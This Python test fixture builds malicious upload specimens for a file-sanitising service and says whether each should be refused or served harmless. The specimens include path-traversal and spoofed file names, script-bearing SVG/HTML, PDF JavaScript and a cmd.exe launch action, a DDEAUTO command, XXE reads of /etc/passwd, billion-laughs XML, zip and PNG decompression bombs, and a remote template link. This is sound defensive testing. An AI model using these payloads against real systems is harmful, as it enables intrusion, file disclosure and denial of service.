"""The files themselves, each made when it is sent."""

import io
import os
import random
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass

from PIL import Image

from tests.foundation.files.specimens import (
    WORD,
    archive,
    docx,
    heic_header,
    jpeg,
    ofd,
    pdf,
    pdf_with_hidden,
    picture,
    png,
    raw_archive,
    relations,
    types,
    xlsx,
)

REFUSED, HARMLESS = "refused", "served harmless"
MB = 1024**2


@dataclass(frozen=True)
class Specimen:
    """`expected` is a verdict, or nothing where either will do."""

    title: str
    name: str
    make: Callable[[], bytes]
    expected: str = REFUSED
    declared: str = "application/octet-stream"
    is_ordinary: bool = False


def specimens() -> Iterator[Specimen]:
    yield from _ordinary()
    yield from _names()
    yield from _wrong_types()
    yield from _pdfs()
    yield from _pictures()
    yield from _archives()
    yield from _documents()


def noise(size: int) -> bytes:
    """Bytes that pack badly and hold no name of a PDF."""
    return os.urandom(size).replace(b"/", b".")


def _ordinary() -> Iterator[Specimen]:
    """What must still be taken, and costs most."""
    limit = 20 * MB - 300
    for title, name, make in (
        ("20 MB PDF", "报告.pdf", lambda: pdf(noise(limit))),
        ("20 MB in a ZIP", "材料.zip", lambda: archive({"报告.pdf": pdf(noise(limit - 300))}, method=0)),
        ("49 megapixels JPEG", "照片.jpg", lambda: picture("JPEG", (7000, 7000), comment=b"SECRET")),
        ("49 megapixels PNG", "照片.png", lambda: picture("PNG", (7000, 7000))),
        ("HEIC", "照片.heic", lambda: picture("HEIF", (2000, 1500))),
        ("Word", "说明.docx", docx),
        ("Excel", "预算.xlsx", xlsx),
        ("OFD", "公文.ofd", ofd),
    ):
        yield Specimen(title, name, make, HARMLESS, is_ordinary=True)


def _names() -> Iterator[Specimen]:
    for name in (
        *(
            "../../etc/passwd.pdf",
            "..\\..\\boot.pdf",
            "C:\\a.pdf",
            "/etc/a.pdf",
            "a\x00.exe.pdf",
            "a\r\nX: y.pdf",
        ),
        *(
            'a";filename="b.exe',
            "<script>.pdf",
            "a\u202efdp.exe",
            "a\u202e.pdf",
            "a\u200b.pdf",
            "a\ue000.pdf",
        ),
        *(
            "名" * 300 + ".pdf",
            ".pdf",
            " .pdf",
            "报告.pdf.exe",
            "报告.exe.pdf",
            "CON.pdf",
            "报告。pdf",
            "报告.PDF.",
        ),
    ):
        yield Specimen(f"name {name[:12]!r}", name, pdf, "")
    yield Specimen("Chinese name", "（终稿）成华区“公益创投”项目说明书 v2.pdf", pdf, "")


def _wrong_types() -> Iterator[Specimen]:
    svg = b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"
    page = b"<!doctype html><html><script>alert(1)</script></html>"
    for name, content, declared in (
        ("a.svg", svg, "image/svg+xml"),
        ("a.png", svg, "image/png"),
        ("a.jpg", svg, "image/jpeg"),
        ("a.html", page, "text/html"),
        ("a.pdf", page, "application/pdf"),
        ("a.heic", page, "image/heic"),
        ("a.docx", page, "text/html"),
        ("a.exe", b"MZ\x90" + bytes(200), "application/pdf"),
        ("a.pdf", b"MZ\x90" + bytes(200), "application/pdf"),
        ("a.pdf", png(), "application/pdf"),
        ("a.png", pdf(), "image/png"),
        ("a.jpg", picture("PNG"), "image/jpeg"),
        ("a.docx", xlsx(), "application/zip"),
        ("a.ofd", docx(), "application/ofd"),
        ("a.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "application/msword"),
        ("a.rar", b"Rar!\x1a\x07\x00" + bytes(60), "application/zip"),
        ("a.jpg", b"GIF89a" + bytes(60), "image/gif"),
        ("a.pdf", b"", "application/pdf"),
    ):
        yield Specimen(f"{declared} as {name}", name, lambda content=content: content, declared=declared)
    yield Specimen("30 MB", "a.pdf", lambda: pdf(noise(30 * MB)))


def _pdfs() -> Iterator[Specimen]:
    bomb = zlib.compress(bytes(30 * MB), 9)
    stream = b"5 0 obj << /Type /ObjStm /Filter /FlateDecode >>\nstream\n" + bomb + b"\nendstream endobj\n"
    for title, make in (
        ("JavaScript", lambda: pdf(b"<< /S /JavaScript /JS (app.alert(1)) >>")),
        ("JavaScript written in hex", lambda: pdf(b"<< /S /J#61vaScript >>")),
        ("JavaScript in packed objects", lambda: pdf_with_hidden(bytes(MB) + b"<< /S /JavaScript >>")),
        ("objects packed twice", lambda: pdf_with_hidden(b"", filters=b"[/AHx /FlateDecode]")),
        ("launches a program", lambda: pdf(b"<</S/Launch/F(cmd.exe)>>")),
        ("another file inside", lambda: pdf(b"<< /Type /EmbeddedFile >>")),
        ("encrypted", lambda: pdf(b"trailer << /Encrypt 9 0 R >>")),
        ("packed objects that fill memory", lambda: pdf(stream * 4)),
        ("four million names", lambda: pdf(b"".join(b"/%x" % number for number in range(2_000_000)))),
        ("cut short", lambda: pdf()[:40]),
        ("also a ZIP", lambda: pdf() + archive({"a.exe": b"MZ\x90"})),
        ("also a ZIP in a comment", lambda: pdf(archive({"a.exe": b"MZ\x90"}))),
        ("also a page", lambda: pdf(b"<html><script>alert(1)</script>")),
        ("a page behind its end", lambda: pdf() + b"<html><script>alert(1)</script>"),
        ("behind something else", lambda: b"GIF89a" + pdf()),
    ):
        expected = "" if title == "four million names" else REFUSED
        yield Specimen(f"PDF: {title}", "a.pdf", make, expected, "application/pdf")


def _pictures() -> Iterator[Specimen]:
    tail = archive({"SECRET.txt": b"<script>alert(1)</script>"}, method=0)
    for title, name, make, expected in (
        ("60 megapixels PNG", "a.png", lambda: _grey(10_000, 6_000), REFUSED),
        ("60 megapixels JPEG", "a.jpg", lambda: jpeg(10_000, 6_000), REFUSED),
        ("4 gigapixels JPEG", "a.jpg", lambda: jpeg(65_500, 65_500, frame=0xC2), REFUSED),
        ("PNG of 2^64 pixels", "a.png", lambda: png(2**32 - 1, 2**32 - 1), REFUSED),
        ("60 megapixels HEIC", "a.heic", lambda: heic_header(10_000, 6_000), REFUSED),
        ("HEIC without a picture", "a.heic", lambda: heic_header(40, 30), REFUSED),
        ("HEIC cut short", "a.heic", lambda: picture("HEIF")[:-100], REFUSED),
        ("PNG that unpacks to too much", "a.png", _png_bomb, ""),
        ("PNG with a text that fills memory", "a.png", _png_text_bomb, HARMLESS),
        ("JPEG cut short", "a.jpg", lambda: picture("JPEG", (800, 600))[:-500], REFUSED),
        ("PNG cut short", "a.png", lambda: picture("PNG", (800, 600))[:-40], REFUSED),
        ("JPEG of noise", "a.jpg", lambda: b"\xff\xd8\xff\xe0" + noise(MB), REFUSED),
        ("JPEG and ZIP", "a.jpg", lambda: picture("JPEG") + tail, HARMLESS),
        ("PNG and ZIP", "a.png", lambda: picture("PNG") + tail, HARMLESS),
        ("JPEG with a script as comment", "a.jpg", lambda: picture("JPEG", comment=b"<script>"), HARMLESS),
        ("JPEG with thousand scans", "a.jpg", _many_scans, ""),
        (
            "progressive 49 megapixels",
            "a.jpg",
            lambda: picture("JPEG", (7000, 7000), progressive=True),
            HARMLESS,
        ),
    ):
        yield Specimen(title, name, make, expected)


def _grey(width: int, height: int) -> bytes:
    out = io.BytesIO()
    Image.new("L", (width, height)).save(out, "PNG")
    return out.getvalue()


def _png_bomb() -> bytes:
    """Few pixels by its header, and 400 MB of data for them."""
    plain = png(2, 2)
    body = zlib.compress(bytes(400 * MB), 9)
    chunk = b"IDAT" + body
    data = len(body).to_bytes(4, "big") + chunk + zlib.crc32(chunk).to_bytes(4, "big")
    begins, ends = plain.index(b"IDAT") - 4, plain.index(b"IEND") - 4
    return plain[:begins] + data + plain[ends:]


def _png_text_bomb() -> bytes:
    plain = picture("PNG")
    chunk = b"zTXtSECRET\x00\x00" + zlib.compress(bytes(200 * MB), 9)
    text = (len(chunk) - 4).to_bytes(4, "big") + chunk + zlib.crc32(chunk).to_bytes(4, "big")
    return plain[:33] + text + plain[33:]


def _many_scans() -> bytes:
    plain = picture("JPEG", (3000, 3000), progressive=True)
    last = plain.rindex(b"\xff\xda")
    return plain[:last] + plain[last:-2] * 1000 + plain[-2:]


def _archives() -> Iterator[Specimen]:
    def entries(count: int) -> list[tuple[bytes, bytes]]:
        return [(b"%d.png" % number, png()) for number in range(count)]

    def overlapping() -> bytes:
        content = bytearray(raw_archive(entries(500)))
        begin = content.find(b"PK\1\2")
        while begin >= 0:
            content[begin + 42 : begin + 46] = bytes(4)
            begin = content.find(b"PK\1\2", begin + 4)
        return bytes(content)

    for title, make in (
        ("bomb in one file", lambda: archive({"a.pdf": pdf(bytes(90 * MB))})),
        ("bomb of small ones", lambda: archive({f"{n}.pdf": pdf(bytes(900_000)) for n in range(200)})),
        ("bomb that lies", lambda: raw_archive([(b"a.pdf", pdf(bytes(90 * MB)))], size=1000)),
        ("bomb of one for many", overlapping),
        ("nested", lambda: archive({"a.zip": archive({"a.zip": archive({"a.pdf": pdf()})})})),
        ("10,001 files", lambda: raw_archive(entries(10_001))),
        ("path upward", lambda: archive({"../../a.pdf": pdf()})),
        ("absolute path", lambda: archive({"/etc/a.pdf": pdf()})),
        ("Windows path", lambda: raw_archive([(b"..\\a.pdf", pdf())])),
        ("NUL in a name", lambda: raw_archive([(b"a.exe\x00.pdf", pdf())])),
        ("password", lambda: raw_archive([(b"a.pdf", pdf())], flags=0x801)),
        ("two directories", lambda: raw_archive([(b"a.pdf", pdf())], local_name=b"a.exe")),
        ("link", lambda: raw_archive([(b"a.pdf", b"/etc/passwd")], made_by=0x300, attributes=0o120777 << 16)),
        ("program", lambda: archive({"安装.exe": b"MZ\x90"})),
        ("page", lambda: archive({"a.html": b"<script>alert(1)</script>"})),
        ("same name twice", lambda: raw_archive([(b"a.pdf", pdf()), (b"A.pdf", pdf())])),
        ("two joined", lambda: archive({"a.pdf": pdf()}) + archive({"b.pdf": pdf()})),
        ("cut short", lambda: archive({"a.pdf": pdf(noise(MB))})[:-500]),
        ("directory of noise", lambda: b"PK\x03\x04" + noise(MB) + b"PK\x05\x06" + noise(18)),
        ("unknown packing", lambda: raw_archive([(b"a.pdf", pdf())], method=98)),
    ):
        yield Specimen(f"ZIP: {title}", "a.zip", make, declared="application/zip")
    yield Specimen("ZIP: 10,000 files", "a.zip", lambda: raw_archive(entries(10_000)), HARMLESS)


def _documents() -> Iterator[Specimen]:
    def outward(kind: str, target: str) -> bytes:
        return docx(more={"word/_rels/document.xml.rels": relations((kind, target, "External"))})

    def xml(text: str) -> bytes:
        return docx(more={"word/styles.xml": text})

    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10 if n else "ha"}">' for n in range(10))
    vba = ("word/vbaProject.bin", "application/vnd.ms-office.vbaProject")
    words = [f"{number:x}" for number in random.Random(1).sample(range(10**9), 200_000)]
    for title, name, make in (
        ("macros", "a.docm", docx),
        (
            "macros renamed",
            "a.docx",
            lambda: docx(kind="application/vnd.ms-word.document.macroEnabled.main+xml"),
        ),
        (
            "macros beside",
            "a.docx",
            lambda: docx(types=types("word/document.xml", f"{WORD}.document.main+xml", vba)),
        ),
        ("macros in a workbook", "a.xlsx", lambda: xlsx(more={"xl/vbaProject.bin": b"x"})),
        ("object", "a.docx", lambda: docx(more={"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"})),
        ("ActiveX", "a.docx", lambda: docx(more={"word/activeX/activeX1.xml": "<x/>"})),
        (
            "template from elsewhere",
            "a.docx",
            lambda: outward("attachedTemplate", "http://rival.example/a.dotm"),
        ),
        ("picture from elsewhere", "a.docx", lambda: outward("image", "\\\\rival\\share\\a.png")),
        ("link to a program", "a.docx", lambda: outward("hyperlink", "file:///C:/Windows/cmd.exe")),
        ("DDE", "a.docx", lambda: docx('<w:p><w:fldSimple w:instr="DDEAUTO cmd /c calc"/></w:p>')),
        ("DDE in a workbook", "a.xlsx", lambda: xlsx(more={"xl/externalLinks/1.xml": "<a><ddeLink/></a>"})),
        ("billion laughs", "a.docx", lambda: xml(f"<!DOCTYPE x [{laughs}]><x>&l9;</x>")),
        (
            "foreign entity",
            "a.xlsx",
            lambda: xlsx(more={"xl/a.xml": '<!DOCTYPE x SYSTEM "file:///etc/passwd"><x/>'}),
        ),
        ("tag of 20 MB", "a.docx", lambda: xml(f'<a b="{" ".join(words * 10)}"/>')),
        ("a million levels", "a.docx", lambda: xml("<a>" * 1_000_000)),
        ("a million attributes", "a.docx", lambda: xml("<a " + " ".join(f'x{w}="1"' for w in words) + "/>")),
        ("script in OFD", "a.ofd", lambda: ofd("<ofd:Script>app.alert(1)</ofd:Script>")),
        ("program in OFD", "a.ofd", lambda: ofd(more={"Doc_0/Attachs/a.exe": b"MZ\x90"})),
        ("entity in OFD", "a.ofd", lambda: ofd(more={"Doc_0/x.xml": f"<!DOCTYPE x [{laughs}]><x>&l9;</x>"})),
        ("OFD without a document", "a.ofd", lambda: archive({"OFD.xml": "<OFD/>"})),
    ):
        yield Specimen(f"document: {title}", name, make)
    yield Specimen(
        "document: 27 MB of text", "a.docx", lambda: xml(f"<a>{' '.join(words * 15)}</a>"), HARMLESS
    )
